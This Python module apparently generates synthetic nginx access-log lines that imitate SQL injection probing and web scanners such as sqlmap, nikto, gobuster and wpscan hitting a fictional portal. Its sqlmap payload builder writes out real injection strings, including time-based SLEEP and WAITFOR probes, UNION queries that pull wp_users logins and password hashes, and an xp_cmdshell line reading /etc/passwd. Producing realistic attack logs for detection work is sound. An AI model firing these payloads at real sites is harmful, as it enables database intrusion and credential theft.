"""SQL injection probing and scanners against the portal, as nginx logs them."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from urllib.parse import quote

from .common import ALNUM, Context, Line, Plan, between, hexid, pick
from .site import (
    DESKTOP_UAS,
    KNOWN_PATHS,
    request,
    static_status,
)
from .wordlists import (
    DIRWORDS,
    EXTENSIONS,
    MANUAL_SQLI,
    PLUGINS,
    SCANNER_UAS,
    SENSITIVE,
    SQLI_TARGETS,
    SQLMAP_UAS,
    THEMES,
)

# --------------------------------------------------------------------------- SQL injection


def _marker(rng: Random) -> str:
    return "0x71" + "".join(f"{ord(c):02x}" for c in hexid(rng, 3, "bjkpqvxz")) + "71"


def _sqlmap_payload(rng: Random, step: int, value: str) -> str:
    r = 1000 + int(rng.random() * 9000)
    r2 = 1000 + int(rng.random() * 9000)
    s = hexid(rng, 4, ALNUM)
    qa, qb = _marker(rng), _marker(rng)
    if step < 3:
        return (
            f'{value}.",(.),)("',
            f"{value}'{s}<'\">{hexid(rng, 4, ALNUM)}",
            f"{value}) AND {r}={r}-- {s}",
        )[step]
    family = int(rng.random() * 6)
    if family == 0:
        return pick(
            rng,
            (
                f"{value} AND {r}={r}",
                f"{value} AND {r}={r + 1}",
                f"{value}' AND '{s}'='{s}",
                f"{value}) AND {r}={r} AND ({r2}={r2}",
                f"{value} OR NOT {r}={r}",
                f"{value}' OR NOT {r}={r}-- {s}",
            ),
        )
    if family == 1:
        return pick(
            rng,
            (
                f"{value} AND EXTRACTVALUE({r},CONCAT(0x5c,{qa},(SELECT (ELT({r}={r},1))),{qb}))",
                f"{value} AND (SELECT {r} FROM(SELECT COUNT(*),CONCAT({qa},(SELECT "
                f"(ELT({r}={r},1))),{qb},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS "
                f"GROUP BY x)a)",
                f"{value} AND {r}=CAST(({qa})||({qb}) AS NUMERIC)",
            ),
        )
    if family == 2:
        return pick(
            rng,
            (
                f"{value} AND (SELECT {r} FROM (SELECT(SLEEP(5))){s})",
                f"{value}' AND (SELECT {r} FROM (SELECT(SLEEP(5))){s})-- {s}",
                f"{value};SELECT PG_SLEEP(5)--",
                f"{value} AND {r}=BENCHMARK(5000000,MD5(0x{r2:x}))",
                f"{value}';WAITFOR DELAY '0:0:5'--",
            ),
        )
    if family == 3:
        columns = 1 + int(rng.random() * 10)
        return pick(
            rng,
            (
                f"{value} ORDER BY {columns}-- {s}",
                f"{value} UNION ALL SELECT {','.join(['NULL'] * columns)}-- {s}",
                f"{value}' UNION ALL SELECT {','.join(['NULL'] * columns)}-- {s}",
            ),
        )
    nulls = "NULL," * int(rng.random() * 3)
    cast = "IFNULL(CAST({} AS NCHAR),0x20)"
    return pick(
        rng,
        (
            f"-{r} UNION ALL SELECT {nulls}CONCAT({qa},{cast.format('schema_name')},{qb})"
            f" FROM INFORMATION_SCHEMA.SCHEMATA-- -",
            f"-{r} UNION ALL SELECT {nulls}CONCAT({qa},{cast.format('table_name')},{qb})"
            f" FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x706f7274616c5f6462)-- -",
            f"-{r} UNION ALL SELECT {nulls}CONCAT({qa},{cast.format('user_login')},0x{r2:x},"
            f"{cast.format('user_pass')},{qb}) FROM portal_db.wp_users-- -",
            f"{value} AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT({qa},(SELECT "
            f"(ELT({r}={r},1))),{qb},0x78))s), 8446744073709551610, 8446744073709551610)))",
        ),
    )


def sqlmap(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, SQLMAP_UAS)
    path, param, value, size = pick(rng, SQLI_TARGETS)
    double = rng.random() < 0.35  # behind a tamper script / a framework that decodes twice
    t = plan.t0
    yield request(ctx, t, plan.ip, "GET", f"{path}?{param}={value}", 200, size, "-", agent)
    waf_name = hexid(rng, 4, ALNUM)
    waf = (
        f"{int(rng.random() * 9000) + 1000} AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert("
        '"XSS")</script>\',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC '
        "xp_cmdshell('cat ../../../etc/passwd')#"
    )
    for step in range(plan.size - 1):
        payload = waf if step == 3 else _sqlmap_payload(rng, step, value)
        encoded = quote(payload, safe="")
        if double:
            encoded = encoded.replace("%", "%25")
        if step == 3:  # sqlmap checks for a WAF with a parameter of its own
            encoded = f"{value}&{waf_name}={encoded}"
        slow = "SLEEP" in payload or "DELAY" in payload or "BENCHMARK" in payload
        t += between(rng, 5.0, 5.6) if slow and rng.random() < 0.5 else between(rng, 0.05, 0.9)
        status = 500 if "EXTRACTVALUE" in payload and rng.random() < 0.5 else 200
        body = size + int(rng.random() * 400) - 200 if status == 200 else 1211
        yield request(ctx, t, plan.ip, "GET", f"{path}?{param}={encoded}", status, body, "-", agent)


def sqli_manual(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    agent = pick(rng, DESKTOP_UAS)
    path, param, value, size = pick(rng, SQLI_TARGETS)
    t = plan.t0
    yield request(
        ctx, t, plan.ip, "GET", f"{path}?{param}={value}", 200, size, "-", agent, "HTTP/2.0"
    )
    for n in range(plan.size - 1):
        payload = MANUAL_SQLI[
            min(n, len(MANUAL_SQLI) - 1) if n < 4 else int(rng.random() * len(MANUAL_SQLI))
        ].format(v=value)
        encoded = quote(payload, safe="'(),*=-:")  # what a browser's address bar sends
        t += between(rng, 4, 90)
        status = 500 if payload.endswith(("'", '"')) else 200
        yield request(
            ctx,
            t,
            plan.ip,
            "GET",
            f"{path}?{param}={encoded}",
            status,
            size + int(rng.random() * 300),
            "-",
            agent,
            "HTTP/2.0",
        )


# --------------------------------------------------------------------------- scanners


def _candidates(rng: Random, ctx: Context, tool: str) -> list[str]:
    words = [f"/{w}{ext}" for w in DIRWORDS for ext in EXTENSIONS]
    rng.shuffle(words)
    if tool == "gobuster":
        chosen = EXTENSIONS[: 2 + int(rng.random() * 4)]
        return [f"/{w}{ext}" for w in DIRWORDS for ext in chosen] + words
    sensitive = list(SENSITIVE) + [f"/{ctx.district}{ext}" for ext in (".zip", ".sql", ".tar.gz")]
    rng.shuffle(sensitive)
    if tool == "wpscan":
        plugins = [f"/wp-content/plugins/{p}/readme.txt" for p in PLUGINS]
        plugins += [f"/wp-content/plugins/{p}/" for p in PLUGINS]
        themes = [f"/wp-content/themes/{t}/style.css" for t in THEMES]
        authors = [f"/?author={n}" for n in range(1, 11)]
        start = ["/", "/readme.html", "/wp-json/wp/v2/users", "/xmlrpc.php", "/wp-cron.php"]
        return start + authors + plugins + themes + sensitive + words
    if tool == "browser":
        return words
    return sensitive + words


def _scan(
    rng: Random, ctx: Context, plan: Plan, tool: str, rate: tuple[float, float], agent: str
) -> Iterator[Line]:
    t = plan.t0
    test = int(rng.random() * 5000)
    paths = list(dict.fromkeys(_candidates(rng, ctx, tool)))
    if tool == "nikto":
        paths.insert(1, "/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000")
        for n in range(3):  # nikto learns what a missing file looks like
            paths.insert(0, f"/{hexid(rng, 8, ALNUM)}{('.php', '.html', '.cgi')[n]}")
    for n in range(plan.size):
        path = paths[n % len(paths)]
        method = "HEAD" if tool == "nikto" and rng.random() < 0.3 else "GET"
        status, size = static_status(path, rng)
        if (
            path.startswith("/wp-content/plugins/")
            and path.endswith("/")
            and path + "readme.txt" in KNOWN_PATHS
        ):
            status, size = 200, 0
        ua = agent.format(test=test + n) if tool == "nikto" else agent
        yield request(
            ctx, t, plan.ip, method, path, status, 0 if method == "HEAD" else size, "-", ua
        )
        t += 1 / between(rng, *rate)


def nikto(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    return _scan(rng, ctx, plan, "nikto", (8, 40), SCANNER_UAS["nikto"])


def nuclei(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    return _scan(rng, ctx, plan, "nuclei", (10, 50), SCANNER_UAS["nuclei"])


def gobuster(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    return _scan(rng, ctx, plan, "gobuster", (10, 40), SCANNER_UAS["gobuster"])


def wpscan(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    return _scan(rng, ctx, plan, "wpscan", (4, 20), SCANNER_UAS["wpscan"])


def dirbrute_browser(rng: Random, ctx: Context, plan: Plan) -> Iterator[Line]:
    """A directory brute force hiding behind a browser's user agent: only 404s give it away."""
    return _scan(rng, ctx, plan, "browser", (3, 15), pick(rng, DESKTOP_UAS))
